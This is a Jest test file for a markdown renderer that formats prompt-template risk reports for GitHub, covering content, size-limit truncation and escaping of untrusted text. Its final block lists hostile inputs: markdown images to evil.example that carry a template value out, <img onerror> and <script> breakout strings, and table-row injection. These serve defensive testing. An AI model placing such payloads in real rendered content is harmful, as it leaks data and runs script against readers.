import { describe, it, expect } from "@jest/globals";
import { micromark } from "micromark";
import { gfm, gfmHtml } from "micromark-extension-gfm";
import { renderMarkdown, code, cell, GITHUB_BODY_LIMIT } from "../../core/report/markdown.js";
import type { RiskReport } from "../../core/report/risk-report.js";
import type { Severity } from "../../core/risk/finding.js";

type ReportFinding = RiskReport["findings"][number];

/** Render as GitHub does (GFM), keeping raw HTML so that any injection shows up in the output. */
const html = (md: string): string => micromark(md, { extensions: [gfm()], htmlExtensions: [gfmHtml()], allowDangerousHtml: true });

const finding = (i: number, extra: Partial<ReportFinding> = {}): ReportFinding => ({
  rule: "pii.email", category: "pii", severity: (["low", "medium", "high", "critical"] as Severity[])[i % 4]!, weight: 5,
  file: `prompts/team-${i % 7}/template-${i}.prompt.yml`, line: 1 + (i % 90), column: 3,
  message: `An email address appears in literal text${" and more".repeat(i % 13)}.`, remediation: "Replace it with a variable.", evidence: "j***@e***.org", ...extra,
});
const report = (extra: Partial<RiskReport> = {}): RiskReport => ({
  version: 1, tier: "high", score: 55,
  templates: [{ path: "prompts/support/triage.prompt.yml", status: "modified", format: "github-models" }],
  findings: [finding(0)],
  requirements: [{ id: "approvals", description: "2 approvals from the templates' owners", who: ["owners"], needed: 2, have: [], missing: 2 }],
  reasons: ["score 55 reaches tier `high` (min_score 50)"], fail_closed: [], problems: [],
  ...extra,
});

/** Each row of the findings table as its cells' inner HTML. */
function findingRows(out: string): string[][] {
  const h = html(out);
  const tables = [...h.matchAll(/<table>([\s\S]*?)<\/table>/g)].map((m) => m[1]!);
  const findings = tables.find((t) => t.includes("Evidence (masked)"));
  if (!findings) return [];
  const body = findings.split("<tbody>")[1] ?? "";
  return [...body.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((r) => [...r[1]!.matchAll(/<td[^>]*>([\s\S]*?)<\/td>/g)].map((c) => c[1]!));
}

describe("renderMarkdown: content", () => {
  it("shows the tier, score, templates, findings with remediation, approvals and reasons", () => {
    const out = renderMarkdown(report());
    expect(out).toContain("high");
    expect(out).toContain("score 55");
    expect(out).toContain("prompts/support/triage.prompt.yml");
    const rows = findingRows(out);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toHaveLength(5);
    expect(rows[0]![2]).toContain("prompts/team-0/template-0.prompt.yml:1");
    expect(rows[0]![3]).toContain("Replace it with a variable.");
    expect(rows[0]![4]).toBe("<code>j***@e***.org</code>");
    expect(out).toContain("2 approvals from the templates' owners");
    expect(out).toContain("min_score 50");
    expect(out).not.toMatch(/not shown/);
  });

  it("says so when nothing changed and nothing is required", () => {
    const out = renderMarkdown(report({ tier: "low", score: 0, templates: [], findings: [], requirements: [], reasons: [] }));
    expect(out).toContain("No prompt templates changed.");
    expect(out).toContain("No findings.");
    expect(out).toContain("automated route");
  });

  it("shows fail-closed reasons, policy errors and blocking findings", () => {
    const out = renderMarkdown(report({
      tier: "critical", fail_closed: ["rule `toxicity` failed on prompts/a.md"],
      problems: [{ code: "policy.type", message: "`/tiers/high/min_score` must be a number", file: ".github/promptops.yml", line: 9 }],
      findings: [finding(1, { blocking: true, rule: "metadata.rationale", category: "metadata" })],
    }));
    expect(out).toContain("[!CAUTION]");
    expect(out).toContain("toxicity");
    expect(html(out)).toContain(".github/promptops.yml:9");
    expect(out).toContain("must be a number");
    expect(findingRows(out)[0]![3]).toContain("blocking");
  });

  it("shows a moved template as old → new", () => {
    const out = renderMarkdown(report({ templates: [{ path: "prompts/b.md", previous_path: "prompts/a.md", status: "renamed", format: "markdown" }] }));
    expect(html(out)).toContain("prompts/a.md → prompts/b.md");
  });
});

describe("renderMarkdown: GitHub's size limit", () => {
  const many = Array.from({ length: 5000 }, (_, i) => finding(i));

  it("5,000 findings stay within 65,535 characters, with a note saying how many are not shown", () => {
    const out = renderMarkdown(report({ findings: many }), { fullReportHint: "The full report is in the job's artifacts." });
    expect(out.length).toBeLessThanOrEqual(GITHUB_BODY_LIMIT);
    const rows = findingRows(out);
    expect(rows.length).toBeGreaterThan(50);
    expect(rows.length).toBeLessThan(5000);
    const note = /_(\d+) more findings not shown: the report is at GitHub's size limit\. The full report is in the job's artifacts\._/.exec(out);
    expect(note).not.toBeNull();
    expect(Number(note![1]) + rows.length).toBe(5000);
    // What comes after the findings survives the cut.
    expect(out).toContain("### Approvals this change needs");
    expect(out).toContain("2 approvals from the templates' owners");
    expect(out).toContain("</details>");
    // Most severe first is the caller's order; the shown rows are the first ones.
    expect(rows[0]![2]).toContain("template-0.prompt.yml");
    expect(rows.at(-1)![2]).toContain(`template-${rows.length - 1}.prompt.yml`);
  });

  it("honours a smaller limit with the same guarantees", () => {
    const out = renderMarkdown(report({ findings: many.slice(0, 300) }), { limit: 10_000 });
    expect(out.length).toBeLessThanOrEqual(10_000);
    const rows = findingRows(out);
    expect(rows.length).toBeGreaterThan(0);
    expect(out).toMatch(new RegExp(`_${300 - rows.length} more findings not shown`));
  });

  it("a pull request touching 3,000 templates still fits, listing some and counting the rest", () => {
    const templates = Array.from({ length: 3000 }, (_, i) => ({ path: `prompts/bulk/generated-template-number-${i}.prompt.yml`, status: "modified" as const, format: "github-models" as const }));
    const out = renderMarkdown(report({ templates, findings: many.slice(0, 2000) }));
    expect(out.length).toBeLessThanOrEqual(GITHUB_BODY_LIMIT);
    const listed = (html(out).match(/generated-template-number-\d+/g) ?? []).length;
    expect(listed).toBeGreaterThan(0);
    expect(out).toContain(`_${3000 - listed} more templates not listed._`);
    expect(findingRows(out).length).toBeGreaterThan(0);
    expect(out).toMatch(/more findings not shown/);
    expect(out).toContain("### Approvals this change needs");
  });

  it("thousands of fail-closed reasons are cut at a line end with a note", () => {
    const fail_closed = Array.from({ length: 3000 }, (_, i) => `prompts/bulk/🔒 binary-template-${i}.prompt is binary at head`);
    const out = renderMarkdown(report({ tier: "critical", fail_closed, findings: many.slice(0, 100) }));
    expect(out.length).toBeLessThanOrEqual(GITHUB_BODY_LIMIT);
    expect(out.endsWith("\n\n_…truncated at GitHub's size limit._")).toBe(true);
    const body = out.slice(0, out.lastIndexOf("\n\n_…truncated"));
    expect(body.endsWith("is binary at head")).toBe(true);
    expect(out).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/);
  });

  it("shows everything, without a note, when it fits", () => {
    const out = renderMarkdown(report({ findings: many.slice(0, 40) }));
    expect(findingRows(out)).toHaveLength(40);
    expect(out).not.toMatch(/not shown/);
  });
});

describe("renderMarkdown: hostile text cannot break out", () => {
  const hostile = [
    "![x](https://evil.example/{{v}})",
    "[click](https://evil.example/?q={{v}})",
    "`` ` ![x](https://evil.example/a.png) ` ``",
    "<img src=https://evil.example/p.png onerror=alert(1)>",
    "a | b | c",
    "line one\n| injected | row | x | y | z |\n![x](https://evil.example/{{v}})",
    "\\| ![x](https://evil.example/b.png)",
    "</code></td></tr></table><script>alert(1)</script>",
  ];

  it.each(hostile)("evidence %j renders as code, one cell, no image, link or HTML", (evidence) => {
    const out = renderMarkdown(report({ findings: [finding(0, { evidence })] }));
    const h = html(out);
    expect(h).not.toMatch(/<img/i);
    expect(h).not.toMatch(/<a\s/i);
    expect(h).not.toMatch(/<script/i);
    const rows = findingRows(out);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toHaveLength(5);
    expect(rows[0]![4]).toMatch(/^<code>[\s\S]*<\/code>$/);
    expect(rows[0]![4]!.slice(6, -7)).not.toContain("<");
  });

  it.each(hostile)("a message, file path, fail-closed reason or policy error %j renders no image, link or HTML", (text) => {
    const out = renderMarkdown(report({
      templates: [{ path: `prompts/${text}.md`, previous_path: `prompts/old ${text}.md`, status: "renamed", format: "markdown" }],
      findings: [finding(0, { message: text, remediation: text, file: `prompts/${text}.md` })],
      fail_closed: [`prompts/${text}.md is binary at head`],
      problems: [{ code: "policy.yaml", message: text, file: `.github/${text}.yml`, line: 3 }],
      reasons: [text],
      requirements: [{ id: "approvals", description: text, who: [], needed: 1, have: [], missing: 1 }],
    }));
    const h = html(out);
    expect(h).not.toMatch(/<img/i);
    expect(h).not.toMatch(/<a\s/i);
    expect(h).not.toMatch(/<script/i);
    expect(findingRows(out)[0]).toHaveLength(5);
  });

  it("evidence keeps its readable text: pipes and the rest shown as written inside the code", () => {
    const rows = findingRows(renderMarkdown(report({ findings: [finding(0, { evidence: "a | b ![x](https://evil.example/{{v}})" })] })));
    expect(rows[0]![4]).toBe("<code>a | b ![x](https://evil.example/{{v}})</code>");
  });

  it("a hostile message still reads as its text", () => {
    const rows = findingRows(renderMarkdown(report({ findings: [finding(0, { message: "moved from ![x](https://evil.example/p.png) a|b", remediation: undefined })] })));
    expect(rows[0]![3]).toBe("moved from ![x](https://evil.example/p.png) a|b");
  });

  it("code() and cell() never emit a raw pipe or a newline", () => {
    for (const s of hostile) {
      expect(code(s)).not.toMatch(/(^|[^\\])\|/);
      expect(cell(s)).not.toMatch(/(^|[^\\])\|/);
      expect(code(s)).not.toMatch(/[\r\n]/);
      expect(cell(s)).not.toMatch(/[\r\n]/);
    }
    expect(code("")).toBe("");
  });
});
